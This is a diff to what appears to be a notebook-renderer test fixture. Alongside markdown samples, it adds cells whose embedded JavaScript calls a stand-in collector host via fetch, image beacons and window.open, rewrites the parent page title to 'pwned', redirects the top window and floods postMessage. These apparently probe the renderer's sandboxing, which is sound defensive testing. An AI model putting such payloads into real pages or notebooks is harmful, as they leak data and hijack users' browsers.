@@ -37,7 +37,7 @@ NOTEBOOKS = {
 - [x] a task that is done
 - [ ] one that is not
 
-H<sub>2</sub>O, <kbd>Ctrl</kbd>+<kbd>K</kbd>, <mark>marked</mark>, <span style="color: crimson">coloured</span>.
+H<sub>2</sub>O, <kbd>Ctrl</kbd>+<kbd>K</kbd>, <mark>marked</mark>, <span style="color: black; background-color: gold">coloured</span>.
 
 <details><summary>More</summary>
 
@@ -134,6 +134,11 @@ $$A = \\begin{pmatrix} 1 & 2 & 3 \\\\ 4 & 5 & 6 \\\\ 7 & 8 & 9 \\end{pmatrix}, \
         "for n in range(2, 5):\n    display(Markdown(f'step **{n}**'), display_id='status', update=True)",
         "table = display(HTML('<b>old</b>'), display_id=True)\ntable.update(HTML('<b>new</b> value'))",
         "for n in range(3):\n    clear_output(wait=True)\n    print('round', n)\nclear_output()\nprint('only this is left')",
+    ],
+    "scripts": [
+        "from IPython.display import HTML, Javascript, display\n\ndisplay(HTML('<p id=\"place\">not yet</p><script>document.getElementById(\"place\").textContent = \"written by a script\"</script>'))",
+        "display(Javascript('document.body.append(\"written by javascript\")'))",
+        "display(HTML('<p id=\"tried\">tries</p><script>for (const t of [() => fetch(\"https://collector.example/fetch\").catch(() => 0), () => { parent.document.title = \"pwned\" }, () => new Image().src = \"https://collector.example/a.png\", () => open(\"https://collector.example/open\"), () => eval(\"document.title = 1\"), () => localStorage.a = 1, () => { top.location = \"https://collector.example/top\" }, () => parent.postMessage({size: 1e9, ready: true}, \"*\"), () => { document.getElementById(\"tried\").textContent = \"tried all\" }, () => setTimeout(() => { location = \"https://collector.example/leave\" }, 300)]) try { t() } catch {}</script>'))",
     ],
     "hostile": [
         "from bokeh.io import output_notebook\nfrom IPython.display import HTML, display\n\noutput_notebook(hide_banner=True)\nSTRIKE = \"parent.document.title='pwned'; fetch('https://collector.example/strike')\"",
